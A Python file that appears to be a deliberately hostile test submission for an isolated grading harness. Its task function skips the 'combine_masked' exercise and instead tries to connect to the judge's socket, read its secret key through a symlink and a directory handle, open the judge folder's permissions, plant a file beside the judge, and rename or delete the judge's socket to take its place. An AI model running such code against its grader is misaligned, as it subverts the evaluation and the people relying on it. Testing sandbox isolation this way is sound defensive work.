"""Reaches for the judge that stays warm: connects to its socket, reads its key, and takes its place."""

import functools
import os
import socket

from facts import JUDGE_FOLDER, JUDGE_KEY, JUDGE_SOCKET
from kit import Log, syscall

EXERCISE = "combine_masked"
SAYS = " tried, 0 worked."


def connect():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.connect(JUDGE_SOCKET)


def read(path):
    with open(path, "rb") as file:
        return file.read(200)


def through_a_link():
    os.symlink(JUDGE_KEY, "key")
    return read("key")


def through_its_folder():
    folder = os.open(JUDGE_FOLDER, os.O_PATH)
    return os.read(os.open(os.path.basename(JUDGE_KEY), os.O_RDONLY, dir_fd=folder), 200)


def take_its_place():
    os.rename(JUDGE_SOCKET, JUDGE_SOCKET + ".old")


def beside_it():
    os.close(os.open(JUDGE_FOLDER + "/attack-was-here", os.O_CREAT | os.O_WRONLY))


@functools.cache
def everything():
    log = Log()
    log.attempt("connect", connect)
    log.attempt("raw socket", syscall, 41, 1, 1, 0)
    log.attempt("read the key", read, JUDGE_KEY)
    log.attempt("list its folder", os.listdir, JUDGE_FOLDER)
    log.attempt("open its folder to others", os.chmod, JUDGE_FOLDER, 0o777)
    for action in (through_a_link, through_its_folder, beside_it, take_its_place):
        log.attempt(action.__name__, action)
    log.attempt("delete its socket", os.unlink, JUDGE_SOCKET)
    return log


def combine_masked(mask, denoised, original):
    everything().end()
